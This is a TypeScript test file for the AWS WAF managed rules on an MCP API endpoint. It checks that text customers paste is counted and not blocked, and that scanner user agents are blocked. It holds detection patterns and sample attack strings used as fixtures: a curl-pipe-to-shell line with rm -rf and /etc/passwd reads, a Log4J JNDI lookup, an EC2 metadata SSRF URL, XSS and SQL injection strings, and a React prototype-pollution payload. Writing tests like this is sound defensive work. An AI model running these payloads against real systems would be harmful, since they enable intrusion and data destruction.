import { describe, expect, it } from 'vitest';
import { MANAGED_RULES } from '../../infra/api/managed-rules.ts';
import { modernRequest } from '../support/mcp-requests.ts';

/** The part of a request that a rule inspects, which is the end of its name. */
const PARTS = ['HEADER', 'COOKIE', 'BODY', 'URIPATH', 'QUERYSTRING', 'QUERYARGUMENTS', 'METHOD'] as const;
type Part = (typeof PARTS)[number];

/** Patterns of the rules, by the beginning of their names: AWS's examples, and the signatures that are public. */
const LOOKS_FOR: Readonly<Record<string, RegExp>> = {
  NoUserAgent: /^(?![\s\S]*user-agent: )/,
  UserAgent_BadBots: /^user-agent: .*(nessus|nmap|nikto|sqlmap)/im,
  SizeRestrictions: /^[\s\S]{8193}/,
  EC2MetaDataSSRF: /169\.254\.169\.254/,
  GenericLFI: /\.\.\//,
  RestrictedExtensions: /\.(log|ini|conf|bak)\b/,
  GenericRFI: /(https?|ftp):\/\/\d+\.\d+\.\d+\.\d+/,
  CrossSiteScripting: /<script|<iframe|<img|onerror=|javascript:/i,
  JavaDeserializationRCE: /java\.lang\.(Runtime|ProcessBuilder)/,
  Host_localhost: /^host: localhost/m,
  PROPFIND: /^PROPFIND$/,
  ExploitablePaths: /web-inf|\.git|\.env/i,
  Log4JRCE: /\$\{jndi:/,
  ReactJSRCE: /__proto__|constructor:constructor|\$@\d/,
};

const RULES = Object.values(MANAGED_RULES).flatMap((group) =>
  Object.entries(group).map(([name, { action }]) => {
    const part = PARTS.find((each) => name.endsWith(`_${each}`));
    const pattern = Object.entries(LOOKS_FOR).find(([start]) => name.startsWith(start))?.[1];
    if (!part || !pattern) throw new Error(`The test does not know the rule ${name}.`);
    return { name, action, part, pattern };
  }),
);

/** Texts that customers paste, each with the rules that match it. */
const PASTED: ReadonlyArray<readonly [what: string, text: string, counted: readonly string[]]> = [
  [
    'HTML',
    '<div onclick="x()"><script src="/app.js"></script><img src=x onerror=alert(1)></div>',
    ['CrossSiteScripting_BODY'],
  ],
  [
    'source code',
    'import { a } from "../../lib/a.ts";\neval("javascript:" + a);',
    ['GenericLFI_BODY', 'CrossSiteScripting_BODY'],
  ],
  ['a stack trace of Node.js', 'Error: ENOENT\n    at read (/app/../lib/read.js:1:2)', ['GenericLFI_BODY']],
  [
    'a stack trace of Java',
    'Caused by: java.lang.Runtime.exec(Runtime.java:620)\n\tat java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)',
    ['JavaDeserializationRCE_BODY'],
  ],
  ['SQL', "SELECT * FROM orders WHERE id = 1 OR '1'='1'; DROP TABLE orders; --", []],
  ['shell commands', 'cat /etc/passwd | grep root && rm -rf "$HOME" ; curl -s https://example.com | sh', []],
  [
    'log lines',
    `127.0.0.1 "GET /../../etc/passwd" \${jndi:ldap://example.com/a}`,
    ['GenericLFI_BODY', 'Log4JRCE_BODY'],
  ],
  [
    'addresses',
    'curl http://169.254.169.254/latest/meta-data from http://10.0.0.1/x',
    ['EC2MetaDataSSRF_BODY', 'GenericRFI_BODY'],
  ],
  [
    'a payload of React',
    '{"then":"$1:__proto__:then","_response":{"_formData":{"get":"$1:constructor:constructor"}}}',
    ['ReactJSRCE_BODY'],
  ],
  ['8,000 characters', 'x'.repeat(8000).concat('ü'.repeat(200)), ['SizeRestrictions_BODY']],
];

const request = (text: string, headers: Readonly<Record<string, string>> = { 'user-agent': 'node' }) => {
  const { body, headers: own } = modernRequest('tools/call', { name: 'chat_with_ai', arguments: { message: text } });
  const sent = Object.entries({ host: 'mcp.example.com', ...own, ...headers });
  const parts: Record<Part, string> = {
    // As WAF sees it after its JSON unescaping.
    BODY: `${JSON.stringify(body)}\n${text}`,
    HEADER: sent.map(([name, value]) => `${name.toLowerCase()}: ${value}`).join('\n'),
    COOKIE: '',
    URIPATH: '/prod/mcp',
    QUERYSTRING: '',
    QUERYARGUMENTS: '',
    METHOD: 'POST',
  };
  return RULES.filter(({ part, pattern }) => pattern.test(parts[part]));
};

describe('the managed rules', () => {
  it('count where they inspect bodies', () => {
    const bodies = RULES.filter(({ part }) => part === 'BODY');
    expect(bodies.length).toBeGreaterThanOrEqual(8);
    expect(bodies.filter(({ action }) => action === 'block')).toEqual([]);
  });

  it.each(PASTED)('let %s pass', (_, text, counted) => {
    const matching = request(text);
    expect(matching.filter(({ action }) => action === 'block')).toEqual([]);
    expect(matching.map(({ name }) => name)).toEqual(expect.arrayContaining([...counted]));
  });

  it('let a client without a User-Agent pass, and block a scanner', () => {
    expect(request('Hello', {}).map(({ name, action }) => [name, action])).toEqual([['NoUserAgent_HEADER', 'count']]);
    expect(request('Hello', { 'user-agent': 'Nmap Scripting Engine' }).map(({ action }) => action)).toEqual(['block']);
  });
});
